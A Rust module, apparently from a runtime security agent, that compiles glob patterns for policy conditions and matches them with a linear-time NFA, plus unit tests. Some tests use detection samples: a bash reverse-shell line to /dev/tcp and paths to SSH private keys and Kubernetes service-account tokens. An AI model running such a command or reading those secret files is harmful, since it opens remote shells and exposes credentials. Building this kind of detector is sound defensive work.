//! Globs for policy conditions, compiled once and matched on every event. Matching simulates
//! the pattern as an NFA over a bitset of positions, so the cost is O(input × pattern) in the
//! worst case whatever the pattern (`*a*a*a*a*b` cannot blow up), and the common shapes
//! (exact, `/dir/**` prefix, `**/name` suffix) never reach the NFA at all.

use std::fmt;

/// How `*`, `?` and classes treat `/`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GlobMode {
    /// Paths (exe, path, cgroup): `*`, `?` and classes stay within one component; `**`
    /// crosses components; a leading `*` stands for any directory prefix (`*/nginx`
    /// matches `/usr/sbin/nginx`), since an absolute path has nothing before its first `/`.
    Path,
    /// Free text (comm, argv, cmdline, ids): `*` matches any run of characters, `/` included.
    Text,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct GlobError {
    /// Character offset of the problem inside the pattern.
    pub offset: usize,
    pub message: String,
}

impl fmt::Display for GlobError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

#[derive(Clone, Debug)]
enum Tok {
    Lit(char),
    /// `?`
    One,
    Class(Class),
    /// `*` (cross = false in path mode) or `**` not followed by `/`.
    Star {
        cross: bool,
    },
    /// `**/` in path mode is zero or more whole components: `(x/)*`. Two NFA states: at a
    /// component boundary (may skip past the construct), and inside a component (must reach
    /// a `/` to get back to the boundary). Always emitted as the pair `DeepDir, DeepDirInner`.
    DeepDir,
    DeepDirInner,
}

#[derive(Clone, Debug)]
struct Class {
    negated: bool,
    ranges: Vec<(char, char)>,
}

impl Class {
    fn matches(&self, c: char) -> bool {
        self.ranges.iter().any(|&(lo, hi)| lo <= c && c <= hi) != self.negated
    }
}

#[derive(Clone, Debug)]
enum Shape {
    Exact(String),
    /// `lit/**` in path mode (and `lit*` in text mode): starts with the literal.
    Prefix(String),
    /// `**/lit` in path mode: the literal is the whole input or follows a `/`.
    DirSuffix(String),
    /// `*lit` in text mode.
    Suffix(String),
    General {
        toks: Vec<Tok>,
        /// Literal runs, longest first: any match contains every one of them. A cheap
        /// `contains` rejects most inputs before the NFA runs.
        runs: Vec<String>,
        /// Leading literal run: any match starts with it.
        head: String,
    },
}

/// A compiled pattern.
#[derive(Clone, Debug)]
pub struct Glob {
    source: String,
    mode: GlobMode,
    shape: Shape,
    /// Fewest characters a match can have.
    min_len: usize,
}

impl Glob {
    pub fn new(pattern: &str, mode: GlobMode) -> Result<Glob, GlobError> {
        let toks = tokenize(pattern, mode)?;
        let min_len = toks
            .iter()
            .filter(|t| !matches!(t, Tok::Star { .. } | Tok::DeepDir | Tok::DeepDirInner))
            .count();
        let shape = shape_of(toks);
        Ok(Glob {
            source: pattern.to_string(),
            mode,
            shape,
            min_len,
        })
    }

    pub fn as_str(&self) -> &str {
        &self.source
    }

    /// No wildcard: the pattern matches exactly one string.
    pub fn literal(&self) -> Option<&str> {
        match &self.shape {
            Shape::Exact(s) => Some(s),
            _ => None,
        }
    }

    /// `**/name` in path mode: matches any path whose last components are `name`.
    pub fn dir_suffix(&self) -> Option<&str> {
        match &self.shape {
            Shape::DirSuffix(s) => Some(s),
            _ => None,
        }
    }

    pub fn min_len(&self) -> usize {
        self.min_len
    }

    /// `/dir/**` in path mode: every path below the directory `/dir` (returned without the
    /// trailing `/`).
    pub fn subtree_dir(&self) -> Option<&str> {
        match (&self.shape, self.mode) {
            (Shape::Prefix(s), GlobMode::Path) if s.len() > 1 && s.starts_with('/') => {
                s.strip_suffix('/')
            }
            _ => None,
        }
    }

    /// A string every match contains (the longest literal run), if the pattern has one:
    /// what a multi-pattern scan looks for before the pattern itself runs.
    pub fn required_literal(&self) -> Option<&str> {
        let lit = match &self.shape {
            Shape::Exact(s) | Shape::Prefix(s) | Shape::DirSuffix(s) | Shape::Suffix(s) => s,
            Shape::General { runs, .. } => runs.first()?,
        };
        (!lit.is_empty()).then_some(lit.as_str())
    }

    pub fn is_match(&self, s: &str) -> bool {
        match &self.shape {
            Shape::Exact(lit) => s == lit,
            Shape::Prefix(lit) => s.starts_with(lit.as_str()),
            Shape::Suffix(lit) => s.ends_with(lit.as_str()),
            Shape::DirSuffix(lit) => s
                .strip_suffix(lit.as_str())
                .is_some_and(|head| head.is_empty() || head.ends_with('/')),
            Shape::General { toks, runs, head } => {
                s.starts_with(head.as_str())
                    && runs.iter().all(|r| s.contains(r.as_str()))
                    && run(toks, self.mode, s.chars())
            }
        }
    }
}

fn tokenize(pattern: &str, mode: GlobMode) -> Result<Vec<Tok>, GlobError> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut toks = Vec::with_capacity(chars.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' => {
                let Some(&next) = chars.get(i + 1) else {
                    return Err(GlobError {
                        offset: i,
                        message: "ends with a lone `\\`; to match a backslash write `\\\\`".into(),
                    });
                };
                toks.push(Tok::Lit(next));
                i += 2;
            }
            '?' => {
                toks.push(Tok::One);
                i += 1;
            }
            '*' => {
                let double = chars.get(i + 1) == Some(&'*');
                let run_len = chars[i..].iter().take_while(|&&c| c == '*').count();
                i += run_len;
                match mode {
                    GlobMode::Text => toks.push(Tok::Star { cross: true }),
                    GlobMode::Path => {
                        // A leading single `*` stands for any directory prefix: before the
                        // first `/` of an absolute path there is nothing else to match.
                        let leading = toks.is_empty();
                        if (double || leading) && chars.get(i) == Some(&'/') {
                            toks.push(Tok::DeepDir);
                            toks.push(Tok::DeepDirInner);
                            i += 1;
                        } else {
                            toks.push(Tok::Star {
                                cross: double || leading,
                            });
                        }
                    }
                }
            }
            '[' => {
                let (class, next) = parse_class(&chars, i)?;
                toks.push(Tok::Class(class));
                i = next;
            }
            _ => {
                toks.push(Tok::Lit(c));
                i += 1;
            }
        }
    }
    Ok(toks)
}

/// `chars[start]` is `[`; returns the class and the index after its `]`.
fn parse_class(chars: &[char], start: usize) -> Result<(Class, usize), GlobError> {
    let unclosed = || {
        GlobError {
        offset: start,
        message: format!(
            "has an unclosed `[` at character {}; close the class with `]`, or write `\\[` to match a literal `[`",
            start + 1
        ),
    }
    };
    let mut i = start + 1;
    let negated = matches!(chars.get(i), Some('!') | Some('^'));
    if negated {
        i += 1;
    }
    let mut ranges = Vec::new();
    let mut first = true;
    loop {
        let Some(&c) = chars.get(i) else {
            return Err(unclosed());
        };
        if c == ']' && !first {
            i += 1;
            break;
        }
        first = false;
        let (lo, after) = class_char(chars, i).ok_or_else(unclosed)?;
        i = after;
        if chars.get(i) == Some(&'-') && chars.get(i + 1).is_some_and(|&n| n != ']') {
            let (hi, after) = class_char(chars, i + 1).ok_or_else(unclosed)?;
            if hi < lo {
                return Err(GlobError {
                    offset: i - 1,
                    message: format!(
                        "has the empty range `{lo}-{hi}` at character {}; write it low to high: `{hi}-{lo}`",
                        i
                    ),
                });
            }
            ranges.push((lo, hi));
            i = after;
        } else {
            ranges.push((lo, lo));
        }
    }
    Ok((Class { negated, ranges }, i))
}

fn class_char(chars: &[char], i: usize) -> Option<(char, usize)> {
    match chars.get(i)? {
        '\\' => chars.get(i + 1).map(|&c| (c, i + 2)),
        &c => Some((c, i + 1)),
    }
}

fn shape_of(toks: Vec<Tok>) -> Shape {
    let lit = |ts: &[Tok]| -> Option<String> {
        ts.iter()
            .map(|t| match t {
                Tok::Lit(c) => Some(*c),
                _ => None,
            })
            .collect()
    };
    if let Some(s) = lit(&toks) {
        return Shape::Exact(s);
    }
    let n = toks.len();
    match (toks.first(), toks.last()) {
        (_, Some(Tok::Star { cross: true })) => {
            if let Some(s) = lit(&toks[..n - 1]) {
                // In path mode the prefix form is `/dir/**`; `/dir**` also lands here.
                return Shape::Prefix(s);
            }
        }
        (Some(Tok::DeepDir), _) => {
            if let Some(s) = lit(&toks[2..]) {
                return Shape::DirSuffix(s);
            }
        }
        (Some(Tok::Star { cross: true }), _) => {
            if let Some(s) = lit(&toks[1..]) {
                return Shape::Suffix(s);
            }
        }
        _ => {}
    }
    let mut runs: Vec<String> = Vec::new();
    let mut cur = String::new();
    for t in &toks {
        match t {
            Tok::Lit(c) => cur.push(*c),
            _ => runs.push(std::mem::take(&mut cur)),
        }
    }
    runs.push(cur);
    let head = match toks.first() {
        Some(Tok::Lit(_)) => runs[0].clone(),
        _ => String::new(),
    };
    runs.retain(|r| !r.is_empty());
    runs.sort_by_key(|r| std::cmp::Reverse(r.len()));
    Shape::General { toks, runs, head }
}

/// NFA simulation: bit `i` set = "the pattern is at token `i`".
fn run(toks: &[Tok], mode: GlobMode, input: impl Iterator<Item = char>) -> bool {
    if toks.len() < 128 {
        run_small(toks, mode, input)
    } else {
        run_large(toks, mode, input)
    }
}

/// Epsilon moves: a star may match nothing; a `**/` may be skipped whole.
fn skip_to(t: &Tok, i: usize) -> Option<usize> {
    match t {
        Tok::Star { .. } => Some(i + 1),
        Tok::DeepDir => Some(i + 2),
        _ => None,
    }
}

fn closure(toks: &[Tok], mut set: u128) -> u128 {
    for (i, t) in toks.iter().enumerate() {
        if set & (1 << i) != 0 {
            if let Some(j) = skip_to(t, i) {
                set |= 1 << j;
            }
        }
    }
    set
}

/// Where the NFA can go from token `i` on `c` (at most one target).
fn step(toks: &[Tok], i: usize, mode: GlobMode, c: char) -> Option<usize> {
    let slash_ok = mode == GlobMode::Text || c != '/';
    let hit = |b: bool| b.then_some(i + 1);
    match &toks[i] {
        Tok::Lit(l) => hit(*l == c),
        Tok::One => hit(slash_ok),
        Tok::Class(cl) => hit(slash_ok && cl.matches(c)),
        Tok::Star { cross } => (*cross || c != '/').then_some(i),
        Tok::DeepDir => Some(if c == '/' { i } else { i + 1 }),
        Tok::DeepDirInner => Some(if c == '/' { i - 1 } else { i }),
    }
}

fn run_small(toks: &[Tok], mode: GlobMode, input: impl Iterator<Item = char>) -> bool {
    let accept: u128 = 1 << toks.len();
    let mut set = closure(toks, 1);
    for c in input {
        let mut next: u128 = 0;
        let mut bits = set & !accept;
        while bits != 0 {
            let i = bits.trailing_zeros() as usize;
            bits &= bits - 1;
            if let Some(j) = step(toks, i, mode, c) {
                next |= 1 << j;
            }
        }
        if next == 0 {
            return false;
        }
        set = closure(toks, next);
    }
    set & accept != 0
}

fn run_large(toks: &[Tok], mode: GlobMode, input: impl Iterator<Item = char>) -> bool {
    let n = toks.len();
    let close = |set: &mut Vec<bool>| {
        for (i, t) in toks.iter().enumerate() {
            if set[i] {
                if let Some(j) = skip_to(t, i) {
                    set[j] = true;
                }
            }
        }
    };
    let mut set = vec![false; n + 1];
    set[0] = true;
    close(&mut set);
    let mut next = vec![false; n + 1];
    for c in input {
        next.iter_mut().for_each(|b| *b = false);
        let mut any = false;
        for (i, _) in set[..n].iter().enumerate().filter(|(_, on)| **on) {
            if let Some(j) = step(toks, i, mode, c) {
                next[j] = true;
                any = true;
            }
        }
        if !any {
            return false;
        }
        close(&mut next);
        std::mem::swap(&mut set, &mut next);
    }
    set[n]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(pat: &str, s: &str) -> bool {
        Glob::new(pat, GlobMode::Path).expect("valid").is_match(s)
    }
    fn t(pat: &str, s: &str) -> bool {
        Glob::new(pat, GlobMode::Text).expect("valid").is_match(s)
    }

    #[test]
    fn exact_and_prefix_and_suffix() {
        assert!(p("/usr/bin/ls", "/usr/bin/ls"));
        assert!(!p("/usr/bin/ls", "/usr/bin/lsx"));
        assert!(p("/etc/**", "/etc/passwd"));
        assert!(p("/etc/**", "/etc/ssh/sshd_config"));
        assert!(!p("/etc/**", "/etcetera/x"));
        assert!(!p("/etc/**", "/etc"));
        assert!(p("**/nginx", "/usr/sbin/nginx"));
        assert!(p("**/nginx", "nginx"));
        assert!(!p("**/nginx", "/usr/sbin/xnginx"));
        assert!(p("*/nginx", "/usr/sbin/nginx"), "leading * is any prefix");
        assert!(p("*/nginx", "/nginx"));
        assert!(!p("*/nginx", "/usr/sbin/nginx-debug"));
        assert!(p("*.so", "/tmp/a/b.so"));
    }

    #[test]
    fn single_star_stays_in_component_in_path_mode() {
        assert!(p("/home/*/.ssh/id_*", "/home/alice/.ssh/id_rsa"));
        assert!(!p("/home/*/.ssh/id_*", "/home/a/b/.ssh/id_rsa"));
        assert!(!p("/tmp/*", "/tmp/a/b"));
        assert!(p("/tmp/*", "/tmp/a"));
        assert!(p("/tmp/*", "/tmp/"));
        assert!(p("/memfd:*", "/memfd:x (deleted)"));
        assert!(!p("/usr/bin/?s", "/usr/bin//s"));
        assert!(p("/usr/bin/?s", "/usr/bin/ls"));
    }

    #[test]
    fn double_star_spans_zero_or_more_components() {
        assert!(p("/a/**/b", "/a/b"));
        assert!(p("/a/**/b", "/a/x/b"));
        assert!(p("/a/**/b", "/a/x/y/z/b"));
        assert!(!p("/a/**/b", "/a/xb"));
        assert!(!p("/a/**/b", "/a/x/bb"));
        assert!(p("/tmp/**/.*", "/tmp/.hidden"));
        assert!(p("/tmp/**/.*/**", "/tmp/a/.cache/x/y"));
        assert!(!p("/tmp/**/.*/**", "/tmp/a/cache/x"));
        assert!(p("**/*.pub", "/root/.ssh/id_rsa.pub"));
        assert!(!p("**/*.pub", "/root/.ssh/id_rsa"));
        assert!(p("/run/secrets/**/token", "/run/secrets/token"));
        assert!(p(
            "/run/secrets/kubernetes.io/serviceaccount/**/token",
            "/run/secrets/kubernetes.io/serviceaccount/..2024_01_01/token"
        ));
    }

    #[test]
    fn text_mode_star_crosses_slashes() {
        assert!(t("*/dev/tcp/*", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert!(t("nginx*", "nginx: worker"));
        assert!(t("*sh", "bash"));
        assert!(!t("*sh", "bashx"));
        assert!(t("a*b*c", "a/b/c"));
        assert!(t("??", "ab"));
        assert!(!t("??", "abc"));
    }

    #[test]
    fn classes_ranges_negation_and_escapes() {
        assert!(t("[abc]x", "bx"));
        assert!(!t("[abc]x", "dx"));
        assert!(t("[a-z]1", "q1"));
        assert!(!t("[a-z]1", "Q1"));
        assert!(t("[!a-z]1", "Q1"));
        assert!(t("[^a-z]1", "Q1"));
        assert!(t("[]]", "]"));
        assert!(t("[a-]", "-"));
        assert!(t("/dev/[tu][cd]p/*", "/dev/udp/x"));
        assert!(t("\\*", "*"));
        assert!(!t("\\*", "x"));
        assert!(t("a\\[b", "a[b"));
        assert!(t("[\\]]", "]"));
        assert!(!p("/x/[!a]", "/x//"), "classes never match / in paths");
    }

    #[test]
    fn bad_patterns_are_rejected_with_offsets() {
        let e = Glob::new("/usr/[abc", GlobMode::Path).unwrap_err();
        assert_eq!(e.offset, 5);
        assert!(e.message.contains("unclosed `[`"), "{}", e.message);
        let e = Glob::new("abc\\", GlobMode::Text).unwrap_err();
        assert_eq!(e.offset, 3);
        assert!(e.message.contains("lone `\\`"));
        let e = Glob::new("[z-a]", GlobMode::Text).unwrap_err();
        assert!(e.message.contains("`a-z`"), "{}", e.message);
        assert!(Glob::new("[", GlobMode::Text).is_err());
        assert!(Glob::new("[!", GlobMode::Text).is_err());
        assert!(Glob::new("[]", GlobMode::Text).is_err());
    }

    #[test]
    fn adversarial_patterns_stay_linear() {
        let input = "a".repeat(100_000);
        let start = std::time::Instant::now();
        assert!(!t("*a*a*a*a*a*a*a*a*b", &input));
        assert!(!p(
            "/**a**a**a**a**a**a**b",
            &format!("/{}", "a/".repeat(50_000))
        ));
        // Past the bitset size: the slow path still terminates in O(n*m).
        let long = format!("{}b", "*a".repeat(70));
        assert!(!t(&long, &input[..5_000]));
        assert!(t(&long, &format!("{}b", &input[..5_000])));
        // Generous: this is a sanity bound, not a benchmark (debug builds are slow).
        assert!(start.elapsed() < std::time::Duration::from_secs(20));
    }

    #[test]
    fn min_len_and_shapes() {
        let g = Glob::new("/usr/sbin/nginx", GlobMode::Path).unwrap();
        assert_eq!(g.literal(), Some("/usr/sbin/nginx"));
        let g = Glob::new("*/nginx", GlobMode::Path).unwrap();
        assert_eq!(g.dir_suffix(), Some("nginx"));
        assert_eq!(Glob::new("a*b?", GlobMode::Text).unwrap().min_len(), 3);
    }
}
